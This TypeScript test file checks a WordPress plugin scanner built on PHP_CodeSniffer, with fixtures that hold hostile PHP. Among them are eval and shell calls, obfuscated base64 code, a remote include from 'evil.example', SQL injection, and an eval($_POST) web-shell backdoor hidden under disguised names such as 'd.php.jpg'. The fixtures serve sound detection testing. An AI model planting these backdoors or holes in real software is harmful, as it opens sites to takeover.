import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { readdir, rm, stat } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { type SniffOrder, sniffPlugin } from '../../../src/wordpress/preflight/phpcs/sniff.ts';
import { linkPlainly, listPhpFiles } from '../../../src/wordpress/preflight/plugin-files.ts';
import { makePluginFolder } from './plugin-folder.ts';

/** Line by line: what stands there, and what is said of it. */
const lines: readonly (readonly [string, string?])[] = [
  ['<?php'],
  ['eval($x);', 'EvaluatedCode.Eval'],
  ['eval($x); // phpcs:ignore', 'EvaluatedCode.Eval'],
  ["create_function('$a', 'return 1;');", 'EvaluatedCode.CreateFunction'],
  ["assert('phpinfo()');", 'EvaluatedCode.Assert'],
  ['assert($a === 1);'],
  ['$o = `ls $a`;', 'Shell.Backtick'],
  ['shell_exec($x);', 'Shell.Call'],
  ['$this->exec($x); Shell::system($x); function exec() {}'],
  ['gzinflate(base64_decode($x));', 'HiddenCode.Nested'],
  ['base64_decode($x);'],
  ['// if (\u202e $isAdmin) {', 'HiddenCode.Direction'],
  [`$a = '${'QUJD'.repeat(600)}';`, 'HiddenCode.LongText'],
  ["echo $_GET['a'];", 'RequestOutput.Unescaped'],
  ["?><?= $_POST['b'] ?><?php", 'RequestOutput.Unescaped'],
  ["echo esc_html($_GET['a']);"],
  ["include $_GET['f'];", 'RequestUse.Include'],
  ["require 'https://evil.example/x.php';", 'RequestUse.RemoteInclude'],
  ["require __DIR__ . '/x.php';"],
  ["unserialize($_COOKIE['c']);", 'RequestUse.Call'],
  ['unserialize($kept);'],
  ["update_option(sanitize_key($_POST['n'], 1), 1);", 'RequestUse.Option'],
  ["update_option('a', isset($_POST['a']) ? 1 : 0);"],
  ['$wpdb->query("DELETE FROM x WHERE a = $a");', 'UnpreparedQuery.Unprepared'],
  ["$wpdb->get_results('SELECT ' . $_GET['x']);", 'UnpreparedQuery.Request'],
  ['$wpdb->query($wpdb->prepare("DELETE FROM x WHERE a = %d", $a));'],
  ['$wpdb->get_var("SELECT 1 FROM {$wpdb->posts}");'],
];

/** The files of a folder, by their own names. */
async function listFiles(folder: string): Promise<SniffOrder['files']> {
  const files = [];
  for (const path of (await readdir(folder, { recursive: true })).sort()) {
    const status = await stat(join(folder, path));
    if (status.isFile()) files.push({ path, location: path, size: status.size });
  }
  return files;
}

/** Our own rules over everything that is PHP in a plugin of these files. */
async function judge(files: Readonly<Record<string, string>>, signal: AbortSignal) {
  const folder = await makePluginFolder(files);
  const entries = (await listFiles(folder)).map((file) => ({ ...file, kind: 'file' as const, isExecutable: false }));
  const { suspect } = await listPhpFiles(folder, entries);
  const to = `${folder}-plain`;
  try {
    const result = await sniffPlugin({
      program: 'phpcs',
      folder: to,
      files: await linkPlainly(suspect, { folder, to }),
      signal,
    });
    assert.ok(result.outcome === 'run', JSON.stringify(result));
    return result.findings.map(
      ({ severity, path, line, code }) => `${severity} ${path}:${line} ${code.replace('Signpost.Security.', '')}`,
    );
  } finally {
    for (const path of [folder, to]) await rm(path, { recursive: true, force: true });
  }
}

describe('PHP_CodeSniffer', () => {
  let folder: string;
  before(async () => {
    folder = await makePluginFolder({
      'inc/bad lines.php': lines.map(([line]) => line).join('\n'),
      'clean.php': '<?php\nreturn 1;\n',
    });
  });
  after(() => rm(folder, { recursive: true }));
  const signal = new AbortController().signal;

  test('our own rules find what break-ins look like, even where the plugin says to look away, and nothing else', async () => {
    const result = await sniffPlugin({ program: 'phpcs', folder, files: await listFiles(folder), signal });
    assert.ok(result.outcome === 'run', JSON.stringify(result));
    assert.match(result.version, /PHP_CodeSniffer/);
    const found = result.findings.map(
      ({ path, line, code }) => `${path}:${line} ${code.replace('Signpost.Security.', '')}`,
    );
    const expected = lines.flatMap(([, code], index) => (code ? [`inc/bad lines.php:${index + 1} ${code}`] : []));
    assert.deepEqual(found.sort(), expected.sort());
  });

  test('a standard that the operator names is used as it is', async () => {
    const result = await sniffPlugin({
      program: 'phpcs',
      standard: 'PSR1',
      folder,
      files: await listFiles(folder),
      signal,
    });
    assert.ok(result.outcome === 'run');
    assert.ok(result.findings.some(({ code }) => code.startsWith('PSR1.')));
    assert.ok(!result.findings.some(({ code }) => code.startsWith('Signpost.')));
  });

  test('a standard that is not there, and a program that is not there, did not run', async () => {
    const files = await listFiles(folder);
    const standard = await sniffPlugin({ program: 'phpcs', standard: '/none/WordPress', folder, files, signal });
    assert.ok(standard.outcome === 'not_run');
    assert.match(
      standard.reason,
      /^phpcs ended with code 3: ERROR: the "\/none\/WordPress" coding standard is not installed/,
    );
    assert.deepEqual(await sniffPlugin({ program: '/none/phpcs', folder, files, signal }), {
      outcome: 'not_run',
      reason: '/none/phpcs is not installed',
    });
  });

  test('a plugin is not taken for the standard that the operator names and the program does not know', async () => {
    const hostile = await makePluginFolder({
      'Absent/ruleset.xml': '<?xml version="1.0"?><ruleset name="Absent"><autoload>./run.php</autoload></ruleset>',
      'Absent/run.php': "<?php file_put_contents(dirname(__DIR__) . '/ran', 'code of the plugin');",
      'plugin.php': '<?php return 1;',
    });
    const files = await listFiles(hostile);
    const result = await sniffPlugin({ program: 'phpcs', standard: 'Absent', folder: hostile, files, signal });
    const names = await readdir(hostile);
    await rm(hostile, { recursive: true });
    assert.equal(result.outcome, 'not_run');
    assert.ok(!names.includes('ran'), 'code of the plugin ran');
  });

  test('whoever gives up is told so, and no result', async () => {
    const reason = new Error('the server stops');
    const files = await listFiles(folder);
    await assert.rejects(sniffPlugin({ program: 'phpcs', folder, files, signal: AbortSignal.abort(reason) }), reason);
  });

  test('PHP is found under every name that some server runs, hidden, and in files that only look like others', async () => {
    const backdoor = '<?php\neval($_POST["x"]);';
    const disguised = [
      '.hidden.php',
      '.well/known.php5',
      'a.phtml',
      'b.inc',
      'c.PHP',
      'd.php.jpg',
      'e.pht',
      'f.ico',
      '.g',
      'readme.txt',
    ];
    const files = Object.fromEntries(disguised.map((name) => [name, backdoor]));
    // The tag stands across the border of two chunks, after what may be anything.
    const image = `${randomBytes(131_072).toString('hex').slice(0, 262_142)}<?PhP\neval($x);`;
    const found = await judge(
      { ...files, 'image.png': image, 'short.php': '<?\neval($x);', 'plain.txt': 'eval($x);' },
      signal,
    );
    const lines = (path: string) => `error ${path}:2 EvaluatedCode.Eval`;
    assert.deepEqual(found.sort(), [...disguised, 'image.png', 'short.php'].map(lines).sort());
  });

  test('a file that brings the program down, or that it gives up, is found for that, and keeps none of the others unseen', async () => {
    const backdoor = '<?php\neval($x);';
    const found = await judge(
      {
        'a.php': backdoor,
        'b-memory.php': `<?php $a = ${'('.repeat(400_000)}1${')'.repeat(400_000)};`,
        'c-nested.php': `<?php ${'if(1){'.repeat(500)}eval($x);${'}'.repeat(500)}`,
        'd-huge.php': `<?php /* ${'x'.repeat(2 ** 22)} */`,
        'e.php': backdoor,
      },
      signal,
    );
    assert.deepEqual(found.sort(), [
      'error a.php:2 EvaluatedCode.Eval',
      'error b-memory.php:0 Signpost.Unread',
      'error c-nested.php:1 Internal.Tokenizer.Exception',
      'error d-huge.php:0 Signpost.Unread',
      'error e.php:2 EvaluatedCode.Eval',
    ]);
  });
});
